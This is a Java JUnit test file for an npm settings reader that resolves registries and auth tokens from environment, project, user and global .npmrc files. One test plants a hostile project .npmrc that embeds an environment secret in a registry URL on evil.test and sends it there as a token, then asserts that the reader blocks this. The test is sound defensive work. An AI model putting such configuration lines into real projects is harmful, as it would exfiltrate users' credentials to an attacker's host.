package dev.layerweight.catalog.client;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class NpmSettingsTest {

  @TempDir Path root;

  private final Map<String, String> variables = new HashMap<>();

  private void file(String path, String text) throws IOException {
    Path file = root.resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }

  private NpmSettings read() {
    return NpmSettings.of(
        new ClientMachine(
            variables, root.resolve("home"), root, ClientMachine.OperatingSystem.LINUX),
        Optional.of(root.resolve("project")));
  }

  private static String registry(NpmSettings settings, String name) {
    return settings.registryOf(name).map(one -> one.server().toString()).orElse("none");
  }

  private static Optional<String> header(NpmSettings settings, String address) {
    return settings.credentials().of(URI.create(address));
  }

  @Test
  void environmentThenProjectThenUserThenAll() throws IOException {
    assertEquals("none", registry(read(), "left-pad"));
    file("etc/npmrc", "registry=https://all.test/npm\n");
    assertEquals("https://all.test/npm/", registry(read(), "left-pad"));
    file("home/.npmrc", "registry = \"https://user.test/\"\n");
    assertEquals("https://user.test/", registry(read(), "left-pad"));
    file("project/.npmrc", "; chosen here\nregistry=https://project.test\n");
    assertEquals("https://project.test/", registry(read(), "left-pad"));
    variables.put("NPM_CONFIG_REGISTRY", "https://env.test");
    assertEquals("https://env.test/", registry(read(), "left-pad"));
  }

  @Test
  void aScopeHasARegistryAndATokenOfItsOwn() throws IOException {
    variables.put("TEAM_TOKEN", "t0ken");
    file(
        "home/.npmrc",
        """
        registry=https://user.test/
        @team:registry=https://team.test/npm/
        //team.test/npm/:_authToken=${TEAM_TOKEN}
        //user.test/:username=me
        //user.test/:_password=czNjcmV0
        //unset.test/:_authToken=${NOBODY_SET_THIS}
        """);
    NpmSettings settings = read();
    assertEquals("https://team.test/npm/", registry(settings, "@team/kit"));
    assertEquals("https://user.test/", registry(settings, "@other/kit"));
    assertEquals(
        Optional.of("Bearer t0ken"), header(settings, "https://team.test/npm/@team%2fkit"));
    assertEquals(Optional.empty(), header(settings, "https://team.test/other"));
    assertEquals(Optional.empty(), header(settings, "http://team.test/npm/x"));
    assertEquals(Optional.empty(), header(settings, "https://team.test.evil.test/npm/x"));
    assertEquals(Optional.of("Basic bWU6czNjcmV0"), header(settings, "https://user.test/left-pad"));
    assertEquals(Optional.empty(), header(settings, "https://unset.test/left-pad"));
    assertFalse(settings.credentials().toString().contains("t0ken"));
  }

  @Test
  void aProjectGetsNoSecretForAHostOfItsOwn() throws IOException {
    variables.put("CLOUD_SECRET", "s3cret");
    variables.put("TEAM_TOKEN", "t0ken");
    file("home/.npmrc", "@team:registry=https://team.test/\n");
    file(
        "project/.npmrc",
        """
        registry=https://evil.test/${CLOUD_SECRET}/
        @a:registry=https://evil.test/
        //evil.test/:_authToken=${CLOUD_SECRET}
        //team.test/:_authToken=${TEAM_TOKEN}
        _authToken=${CLOUD_SECRET}
        cafile=evil.pem
        """);
    NpmSettings settings = read();
    assertEquals("none", registry(settings, "left-pad"));
    assertEquals("https://evil.test/", registry(settings, "@a/b"));
    assertEquals(Optional.empty(), header(settings, "https://evil.test/left-pad"));
    assertEquals(Optional.of("Bearer t0ken"), header(settings, "https://team.test/@team%2fkit"));
    assertEquals(Set.of("team.test"), settings.hosts());
    assertEquals(Optional.empty(), settings.certificates());
  }

  @Test
  void aTokenWithoutHostBelongsToTheUsersOwnRegistry() throws IOException {
    file("home/.npmrc", "registry=https://user.test/\n_auth=bWU6czNjcmV0\ncafile=/etc/team.pem\n");
    assertEquals(Optional.of("Basic bWU6czNjcmV0"), header(read(), "https://user.test/x"));
    assertEquals(Optional.of(Path.of("/etc/team.pem")), read().certificates());
    file("project/.npmrc", "registry=https://project.test/\n");
    assertEquals(Optional.empty(), header(read(), "https://project.test/x"));
  }

  @Test
  void plainConnectionsCarryATokenOnlyWhereConfigured() throws IOException {
    file("home/.npmrc", "registry=http://lan.test:4873/\n//lan.test:4873/:_authToken=abc\n");
    assertEquals(Optional.of("Bearer abc"), header(read(), "http://lan.test:4873/x"));
    assertEquals(Optional.empty(), header(read(), "http://lan.test/x"));
  }
}
